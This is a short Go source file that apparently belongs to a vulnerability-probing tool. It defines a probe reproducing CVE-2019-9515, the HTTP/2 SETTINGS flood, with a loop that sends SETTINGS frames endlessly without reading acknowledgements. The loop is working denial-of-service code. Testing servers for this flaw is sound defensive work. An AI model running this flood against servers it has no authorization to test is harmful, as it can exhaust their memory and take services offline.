package probe

import "golang.org/x/net/http2"

// settingsFlood reproduces CVE-2019-9515: SETTINGS frames as fast as the connection takes
// them, never reading the ACKs, so a server that queues one ACK per SETTINGS grows its queue.
// Each frame repeats a value that changes nothing (ENABLE_PUSH 0), so only the flood counts.
var settingsFlood = Probe{
	Name: "settings-flood",
	CVE:  "CVE-2019-9515",
	flood: func(a *abuser) error {
		for {
			if err := a.settings(http2.Setting{ID: http2.SettingEnablePush, Val: 0}); err != nil {
				return err
			}
		}
	},
}
